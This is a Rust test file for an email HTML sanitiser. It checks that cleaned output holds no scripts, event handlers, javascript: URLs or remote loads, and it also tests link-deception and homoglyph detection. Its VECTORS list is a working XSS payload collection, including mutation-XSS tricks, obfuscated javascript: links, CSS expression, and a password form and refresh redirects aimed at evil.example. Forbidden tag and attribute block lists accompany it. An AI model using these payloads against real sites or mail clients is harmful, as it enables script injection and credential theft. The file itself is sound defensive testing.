//! Hostile HTML: after cleaning, nothing is left that runs, loads or leaves the frame. The result is parsed again and
//! every element and attribute looked at, so that no vector needs its own assertion.

use html5ever::tokenizer::{
    BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};
use mail::html::{Safe, safe};
use proptest::prelude::*;
use std::cell::RefCell;

#[derive(Default)]
struct Tags(RefCell<Vec<Tag>>);

impl TokenSink for Tags {
    type Handle = ();

    fn process_token(&self, token: Token, _: u64) -> TokenSinkResult<()> {
        if let Token::TagToken(tag) = token
            && tag.kind == TagKind::StartTag
        {
            self.0.borrow_mut().push(tag);
        }
        TokenSinkResult::Continue
    }
}

fn cleaned(html: &str) -> Safe {
    safe(html, |id| (id == "known@x").then(|| "/mail/parts/1".to_owned()))
}

fn assert_harmless(html: &str, vector: &str) {
    let tokenizer = Tokenizer::new(Tags::default(), TokenizerOpts::default());
    let input = BufferQueue::default();
    input.push_back(html.into());
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    for tag in tokenizer.sink.0.borrow().iter() {
        let name = &*tag.name;
        let forbidden = [
            "script", "style", "iframe", "object", "embed", "svg", "math", "form", "input", "button", "meta",
            "link", "base", "template", "video", "audio", "textarea", "noscript", "frame",
        ];
        assert!(!forbidden.contains(&name), "<{name}> from {vector}: {html}");
        for attribute in &tag.attrs {
            let (key, value) = (&*attribute.name.local, attribute.value.to_ascii_lowercase());
            assert!(
                !key.starts_with("on")
                    && ![
                        "srcdoc",
                        "formaction",
                        "id",
                        "class",
                        "name",
                        "srcset",
                        "background",
                        "action"
                    ]
                    .contains(&key),
                "{key} from {vector}: {html}"
            );
            if matches!(key, "href" | "src") {
                let is_safe = [
                    "http://",
                    "https://",
                    "mailto:",
                    "tel:",
                    "/mail/",
                    "data:image/png;base64,",
                    "data:image/gif;base64,",
                ]
                .iter()
                .any(|start| value.starts_with(start));
                assert!(is_safe, "{key}={value} from {vector}");
                assert!(
                    key != "src" || !value.starts_with("http"),
                    "loads {value} from {vector}"
                );
            }
            if key == "style" {
                assert!(
                    !value.contains("url(") && !value.contains("position") && !value.contains("expression"),
                    "{value} from {vector}"
                );
            }
        }
    }
}

const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mtext><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\u{1}javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example>",
    "<style>@import url(https://evil.example)</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100%\">x</div>",
    "<div style='color:red;background-image:url(https://evil.example/p)'>x</div>",
    "<p style='x:\\75rl(https://evil.example)'>x</p>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background='https://evil.example/x'><tr><td background=javascript:alert(1)>x</td></tr></table>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='data:image/svg+xml;charset=x,<svg onload=alert(1)>'>",
    "<img src='data:image/png;base64,aaaaaaaaaaaaaaaaał'>",
    "<img srcset='https://evil.example/x 1x'>",
    "<picture><source srcset=https://evil.example/x></picture>",
    "<img src='https://evil.example/pixel.gif' width=1 height=1>",
    "<img src='//evil.example/x'>",
    "<img src='\\\\evil.example\\x'>",
    "<img src='cid:unknown@x'>",
    "<a href='//evil.example'>x</a>",
    "<a href='/logout'>x</a>",
    "<a id=location name=cookie class=button>x</a>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<a href=\"https://ok.example/\" onclick=alert(1) style=\"display:block\">x</a>",
    "<div data-remote=1 data-host=bank.example data-deceives=x>x</div>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml>",
];

#[test]
fn known_attacks_leave_nothing_that_runs_loads_or_leaves() {
    for vector in VECTORS {
        assert_harmless(&cleaned(vector).html, vector);
        // Once more inside something, and cleaned twice.
        let nested = format!("<div><table><tr><td>{vector}</td></tr></table></div>");
        let once = cleaned(&nested).html;
        assert_harmless(&once, vector);
        assert_harmless(&cleaned(&once).html, vector);
    }
}

#[test]
fn images_are_listed_mapped_or_gone() {
    let safe = cleaned(
        "<img src='cid:known%40x' alt=a><img src='cid:other@x'><img src='https://shop.example/a.png' width=1><img src='data:image/png;base64,AAAA'>\
         <div style='background:url(https://shop.example/b.png)'>x</div>",
    );
    assert_eq!(safe.content_ids, ["known@x", "other@x"]);
    let remote: Vec<_> = safe
        .remote_images
        .iter()
        .map(|image| (image.url.as_str(), image.is_pixel))
        .collect();
    assert_eq!(
        remote,
        [
            ("https://shop.example/a.png", true),
            ("https://shop.example/b.png", false)
        ]
    );
    assert!(
        safe.html.contains("src=\"/mail/parts/1\"") && safe.html.contains("data-remote=\"0\""),
        "{}",
        safe.html
    );
    assert!(safe.html.contains("data:image/png"), "{}", safe.html);
}

#[test]
fn links_say_where_they_lead() {
    let safe = cleaned(
        "<a href='https://evil.example/x'>https://bank.example</a> <a href='https://www.shop.example/y'>shop.example</a> <a href='https://x.example'>click here</a>",
    );
    let links: Vec<_> = safe
        .links
        .iter()
        .map(|link| (link.url.as_str(), link.deceives))
        .collect();
    assert_eq!(
        links,
        [
            ("https://evil.example/x", true),
            ("https://www.shop.example/y", false),
            ("https://x.example/", false)
        ]
    );
    assert!(
        safe.html.contains("rel=\"noopener noreferrer nofollow\"") && safe.html.contains("target=\"_blank\"")
    );
    assert!(safe.html.contains("data-host=\"evil.example\"") && safe.html.contains("data-deceives"));
}

#[test]
fn letters_that_look_alike_are_shown_as_what_they_are() {
    let safe = cleaned("<a href='https://bаnk.example/'>bank.example</a>");
    assert!(
        safe.links[0].url.starts_with("https://xn--") && safe.links[0].deceives,
        "{:?}",
        safe.links
    );
}

#[test]
fn what_would_be_slow_shows_as_text() {
    let deep = format!("{}<script>x</script>deep", "<div>".repeat(50_000));
    let safe = cleaned(&deep);
    assert!(safe.is_odd && safe.html.contains("deep"));
    assert_harmless(&safe.html, "deep");
}

proptest! {
    #[test]
    fn no_mixture_of_pieces_gets_through(pieces in proptest::collection::vec(0..VECTORS.len(), 1..4), cut in 0usize..60) {
        let mut html: String = pieces.iter().map(|at| VECTORS[*at]).collect();
        let mut at = cut.min(html.len());
        while !html.is_char_boundary(at) { at -= 1; }
        html.insert_str(at, "<b title=\"");
        assert_harmless(&cleaned(&html).html, &html);
    }
}
